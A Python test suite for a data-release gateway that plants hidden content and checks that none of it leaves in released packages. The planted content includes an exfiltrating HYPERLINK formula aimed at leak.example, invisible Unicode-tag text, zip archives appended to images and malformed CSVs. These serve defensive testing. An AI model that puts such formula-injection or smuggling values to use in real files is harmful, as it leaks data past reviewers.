"""Promise 1: what no policy names does not leave, whatever the original holds and wherever it holds it."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import numpy as np
import pytest
from numpy.typing import NDArray
from PIL import Image

from gateway.formats.coded import Coded
from gateway.formats.columns import CellKind, Column, OutColumn
from gateway.formats.model import Box
from gateway.intake.rules import UnsupportedFormat
from gateway.policy.answers import Answers, Region
from gateway.release.service import NotReady
from gateway.render.model import Rendition, State
from tests.support import journey, originals
from tests.support.forensics import Wanted
from tests.support.guards import gate_passes_everything
from tests.support.originals import Planted, planted
from tests.support.workbooks import XLSX, cells
from tests.support.world import World

UNKNOWN = "Kennziffer Seitenfenster"
UNKNOWN_CELLS = tuple(f"Interna Sonderkondition {number}" for number in range(12))
EXTENSIONS = {"text/csv": "csv", XLSX: "xlsx", "image/jpeg": "jpg", "image/png": "png"}
SMUGGLED = "".join(chr(0xE0000 + ord(letter)) for letter in "Interna")  # a text written in tags, which show nothing
TABLES = tuple(originals.SHEETS)
BY_NIGHT = (
    "files/contract-01.pdf", "files/correspondence-01.pdf", "files/schematic-01.pdf", "files/schematic-02.pdf",
    "files/line-video-01.mp4",
)  # fmt: skip
SEPARATED = ("customer_list", "order_book")
PICTURES = ("photo_jpeg", "photo_png")


def with_unknown_column(label: str, *, answered: bool) -> Planted:
    """The table with a column that the kind does not know, left open or answered with `drop`."""
    made, written = originals.SHEETS[label]
    sheet = made().with_column(UNKNOWN, UNKNOWN_CELLS)
    drop = Answers(columns={f"column/{len(sheet.headers)}": "drop"})
    return planted(label).with_data(written(sheet), UNKNOWN, *UNKNOWN_CELLS, answers=drop if answered else Answers())


def with_appended_archive(label: str) -> Planted:
    """The picture with a zip archive behind its proper end: a polyglot that picture viewers do not notice."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Anhang_Fertigungszelle.txt", originals.TAGS["appended"])
    one = originals.photo_jpeg if label == "photo_jpeg" else originals.photo_png
    made = one(appended=sink.getvalue())
    return made.with_data(made.data, "Anhang_Fertigungszelle")


def surprising(label: str) -> Planted:
    """The original with everything in it that nobody expects there, and the answers that let it be rendered."""
    if label in TABLES:
        return with_unknown_column(label, answered=True)
    return with_appended_archive(label) if label in PICTURES else planted(label)


def assert_nothing_of(one: Planted, package: Mapping[str, bytes]) -> None:
    """No text that was planted in `one` is in any file of the package, raw or one layer below, nor in a path."""
    wanted = Wanted({}, released=(), values=one.secrets)
    leaks = [leak for path, data in package.items() for leak in wanted.search(data, path)]
    leaks += wanted.search("\n".join(package).encode(), "the paths")
    assert not leaks, f"left with the package: {sorted({(leak.what, leak.place, leak.layers) for leak in leaks})}"
    for path, data in package.items():
        if path.endswith((".jpg", ".png")):
            assert_no_hidden_pixel(data)


def assert_no_hidden_pixel(picture: bytes) -> None:
    """No pixel has a colour that only the withheld regions have, and the picture is the work area alone."""
    with Image.open(io.BytesIO(picture)) as opened:
        pixels = np.asarray(opened.convert("RGB"), np.int16)
        assert opened.size == (originals.WORK_AREA.width_px, originals.WORK_AREA.height_px), "more than the work area"
        assert not getattr(opened, "text", {}), "texts in the picture"
        assert not opened.getexif(), "metadata in the picture"
    loud = (pixels[..., 1] < 45) & (pixels.max(axis=2) > 140)
    assert not loud.any(), f"{int(loud.sum())} pixels of a withheld region"


def rendition_file(world: World, one: Planted, rendition: Rendition) -> dict[str, bytes]:
    """A rendition as it would lie in a package."""
    with world.gateway.units.read() as session:
        data = world.gateway.renders.part(session, rendition.object_id)
    return {f"files/{one.kind}.{EXTENSIONS[rendition.media_type or '']}": data}


def rendered(world: World, one: Planted) -> Rendition:
    """One rendition of one original in a release of its own."""
    return journey.rendered(world, [one]).renditions[one.label]


@pytest.fixture(scope="module")
def package(world: World, labels: tuple[str, ...]) -> Mapping[str, bytes]:
    """A package made of all formats, each with its surprises."""
    made = journey.dispatched(world, [surprising(label) for label in labels])
    assert {one.state for one in world.gateway.renders.of_release(made.release.id)} == {State.REVIEWED}
    return journey.files(journey.package(world, made.release))


@pytest.mark.parametrize("label", originals.LABELS)
def test_nothing_that_no_policy_names_is_in_the_package(label: str, package: Mapping[str, bytes]) -> None:
    assert_nothing_of(surprising(label), package)


def test_the_package_still_says_what_it_is_for(package: Mapping[str, bytes]) -> None:
    """An empty package would keep the promise too."""
    table = package["files/customer-list-01.csv"].decode("utf-8-sig")
    assert "Hallbach Servoantriebe GmbH" in table
    assert table.count("\r\n") == 13
    assert sorted(
        {cell for row in cells(package["files/customer-list-02.xlsx"]) for cell in row if cell.startswith("Hallbach")}
    ) == ["Hallbach Servoantriebe GmbH"]
    assert "Rare-earth content [kg]" in cells(package["files/order-book-02.xlsx"])[0]
    assert "Rare-earth content [kg]" in package["files/order-book-01.csv"].decode("utf-8-sig")
    assert {path for path in package if path.startswith("files/")} == {
        "files/customer-list-01.csv", "files/order-book-01.csv", "files/customer-list-02.xlsx",
        "files/order-book-02.xlsx",
        "files/production-photo-01.jpg", "files/production-photo-02.png",
        *(path for path in BY_NIGHT if path in package),
    }  # fmt: skip


@pytest.mark.parametrize("label", TABLES)
def test_an_unknown_column_waits_and_is_out(label: str, world: World) -> None:
    made = journey.rendered(world, [with_unknown_column(label, answered=False)])
    rendition = made.renditions[label]
    assert rendition.state is State.WAITING
    assert rendition.object_id is None, "bytes exist before the question is answered"
    assert UNKNOWN not in (rendition.reason or "")
    with pytest.raises(NotReady):
        world.gateway.releases.submit(world.actors["builder"], made.release.id)


@pytest.mark.parametrize("label", PICTURES)
@pytest.mark.parametrize(
    "answers",
    [
        Answers(),
        Answers(regions=(Region("work_area", originals.WORK_AREA),), confirmed=False),
        Answers(regions=(Region("face", originals.FACE),), confirmed=True),
    ],
    ids=["nothing said", "not confirmed", "no work area"],
)
def test_a_picture_nobody_has_looked_at_waits_or_is_refused(label: str, answers: Answers, world: World) -> None:
    rendition = rendered(world, planted(label).with_data(planted(label).data, answers=answers))
    assert rendition.state in (State.WAITING, State.REFUSED)
    assert rendition.object_id is None


@pytest.mark.parametrize("label", PICTURES)
def test_a_region_of_a_class_that_no_rule_names_is_covered(label: str, world: World) -> None:
    regions = (
        Region("work_area", originals.WORK_AREA),
        Region("face", originals.FACE),
        Region("other", originals.UNNAMED),
    )
    one = planted(label).with_data(planted(label).data, answers=Answers(regions=regions, confirmed=True))
    rendition = rendered(world, one)
    assert rendition.state is State.CLEAN
    assert_nothing_of(one, rendition_file(world, one, rendition))


@pytest.mark.parametrize("label", PICTURES)
def test_a_region_of_a_class_that_the_kind_lacks_never_shows(label: str, world: World) -> None:
    regions = (
        Region("work_area", originals.WORK_AREA),
        Region("face", originals.FACE),
        Region("forklift", originals.UNNAMED),
    )
    one = planted(label).with_data(planted(label).data, answers=Answers(regions=regions, confirmed=True))
    rendition = rendered(world, one)
    assert rendition.state is State.CLEAN
    assert_nothing_of(one, rendition_file(world, one, rendition))


SURPRISES = {
    "a second table below a blank row": lambda text: text + "\r\nGeheimtabelle,Zweitblatt\r\nInterna Zweitblatt,1\r\n",
    "a separator line": lambda text: "sep=,\r\n" + text,
    "cells beyond the header": lambda text: text.replace("\r\n", ",Interna Zweitblatt\r\n", 3).replace(
        ",Interna Zweitblatt", "", 1
    ),
    "a control character": lambda text: text.replace(",Pumps,", ",Pumps\x07,", 1),
    "an unclosed quote": lambda text: text + '"Interna Zweitblatt',
    "a header twice": lambda text: text.replace("Remarks", "Customer", 1),
}


@pytest.mark.parametrize("name", SURPRISES)
@pytest.mark.parametrize("label", SEPARATED)
def test_a_table_that_is_more_than_one_plain_table_does_not_pass(label: str, name: str, world: World) -> None:
    sheet = originals.customers() if label == "customer_list" else originals.orders()
    data = SURPRISES[name](sheet.csv().decode()).encode()
    try:
        rendition = rendered(world, planted(label).with_data(data))
    except UnsupportedFormat:
        return
    assert rendition.state in (State.REFUSED, State.WAITING), rendition.state
    assert rendition.object_id is None
    assert "Zweitblatt" not in (rendition.reason or "")


def test_what_hides_inside_a_disclosed_cell_does_not_leave(world: World) -> None:
    """Formulas lose their power and unseen characters their place; what is seen stays as it was."""
    sheet = originals.customers()
    at = sheet.headers.index("Civil application")
    rows = [list(row) for row in sheet.rows]
    rows[0][at] = '=HYPERLINK("http://leak.example/?"&A1)'
    rows[1][at] = f"Pum\u200bps\u2064{SMUGGLED}"
    one = planted("customer_list").with_data(originals.Sheet(sheet.headers, tuple(map(tuple, rows))).csv())
    rendition = rendered(world, one)
    assert rendition.state is State.CLEAN
    (data,) = rendition_file(world, one, rendition).values()
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",Pumps," in text
    assert not {"\u200b", "\u2064", *SMUGGLED} & set(text)


def _unfiltered(columns: list[Column], *_rest: object) -> list[OutColumn]:
    """What leaves when dropping is forgotten: every column that an instruction speaks of, as it stands."""
    return [OutColumn(column.instruction.title, CellKind.TEXT, Coded.of(column.cells)) for column in columns]


@pytest.mark.parametrize("label", TABLES)
def test_without_the_filter_of_columns_the_gate_holds_and_without_both_this_test_fails(
    label: str, own_world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    one = surprising(label)
    monkeypatch.setattr("gateway.formats.table.rendered", _unfiltered)
    blocked = rendered(own_world, one)
    assert (blocked.state, blocked.object_id) == (State.BLOCKED, None)
    gate_passes_everything(monkeypatch)
    passed = rendered(own_world, one)
    with pytest.raises(AssertionError, match="left with the package"):
        assert_nothing_of(one, rendition_file(own_world, one, passed))


@pytest.mark.parametrize("label", PICTURES)
def test_without_boxes_the_plan_is_missed_and_without_both_this_test_fails(
    label: str, own_world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    one = planted(label)
    monkeypatch.setattr("gateway.formats.picture._boxes", lambda _plan, _area: ())
    refused = rendered(own_world, one)
    assert refused.state in (State.BLOCKED, State.REFUSED)
    assert refused.object_id is None
    gate_passes_everything(monkeypatch)
    passed = rendered(own_world, one)
    with pytest.raises(AssertionError, match="pixels of a withheld region"):
        assert_nothing_of(one, rendition_file(own_world, one, passed))


@pytest.mark.parametrize("label", PICTURES)
def test_without_the_crop_the_size_is_wrong_and_without_both_this_test_fails(
    label: str, own_world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    one = planted(label)
    monkeypatch.setattr("gateway.formats.picture._work_area", lambda picture, _plan: Box(0, 0, 1000, 760))
    refused = rendered(own_world, one)
    assert refused.state in (State.BLOCKED, State.REFUSED)
    assert refused.object_id is None
    gate_passes_everything(monkeypatch)
    passed = rendered(own_world, one)
    with pytest.raises(AssertionError, match=r"more than the work area|pixels of a withheld region"):
        assert_nothing_of(one, rendition_file(own_world, one, passed))


@pytest.mark.parametrize("label", PICTURES)
def test_without_the_fresh_encode_the_gate_holds_and_without_both_this_test_fails(
    label: str, own_world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    one = planted(label)

    def careless(form: str, **options: int) -> Callable[..., bytes]:
        def encoded(pixels: NDArray[np.uint8], *_quality: int) -> bytes:
            sink = io.BytesIO()
            exif = Image.Exif()
            exif[0x013B] = originals.TAGS["artist"]
            Image.fromarray(pixels).save(sink, form, exif=exif, **options)
            return sink.getvalue()

        return encoded

    monkeypatch.setattr("gateway.formats.pixels.jpeg", careless("JPEG", quality=88, subsampling=0))
    monkeypatch.setattr("gateway.formats.pixels.png", careless("PNG"))
    blocked = rendered(own_world, one)
    assert (blocked.state, blocked.object_id) == (State.BLOCKED, None)
    gate_passes_everything(monkeypatch)
    passed = rendered(own_world, one)
    with pytest.raises(AssertionError):
        assert_nothing_of(one, rendition_file(own_world, one, passed))


def test_the_name_of_a_file_stays_inside(own_world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A package that named its files after the originals would be noticed here."""
    one = planted("customer_list")
    monkeypatch.setattr("gateway.release.compose.path_of", lambda _kind, _number, _extension: f"files/{one.file_name}")
    made = journey.rendered(own_world, [one])
    with pytest.raises(Exception, match="gate found"):
        own_world.review(made.release)
    gate_passes_everything(monkeypatch)
    own_world.review(made.release)
    own_world.approve_all(made.release)
    own_world.gateway.dispatch.dispatch(own_world.actors["dispatcher"], made.release.id)
    with pytest.raises(AssertionError, match="left with the package"):
        assert_nothing_of(one, journey.files(journey.package(own_world, made.release)))


def test_without_the_removal_of_unseen_characters_the_gate_holds(
    own_world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    sheet = originals.customers()
    at = sheet.headers.index("Civil application")
    rows = [list(row) for row in sheet.rows]
    rows[1][at] = f"Pumps{SMUGGLED}"
    one = planted("customer_list").with_data(originals.Sheet(sheet.headers, tuple(map(tuple, rows))).csv())
    monkeypatch.setattr("gateway.formats.columns._uncovered", lambda cells: cells)
    blocked = rendered(own_world, one)
    assert (blocked.state, blocked.object_id) == (State.BLOCKED, None)
